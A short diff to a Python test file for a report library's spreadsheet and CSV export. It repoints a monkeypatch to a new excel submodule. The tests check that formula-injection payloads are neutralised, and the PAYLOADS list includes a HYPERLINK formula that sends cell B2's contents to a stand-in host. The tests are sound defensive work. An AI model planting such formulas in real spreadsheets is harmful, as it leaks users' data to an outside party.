@@ -10,6 +10,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from custlib import report
+from custlib.report import excel
 
 PAYLOADS = [
     '=HYPERLINK("http://x.invalid/?l="&B2,"click")',
@@ -62,7 +63,7 @@ def test_payloads_are_text_cells_in_the_workbook(crm, tmp_path):
 
 
 def test_payloads_are_neutralised_in_the_csv_beside_the_workbook(crm, tmp_path, monkeypatch):
-    monkeypatch.setattr(report, "EXCEL_INLINE_ROWS", 10)    # the master table goes to CSV
+    monkeypatch.setattr(excel, "EXCEL_INLINE_ROWS", 10)     # the master table goes to CSV
     report.write_workbook(_crm_with_names(_small(crm), PAYLOADS), tmp_path / "wb.xlsx")
     files = sorted(tmp_path.glob("wb-*.csv"))
     assert files
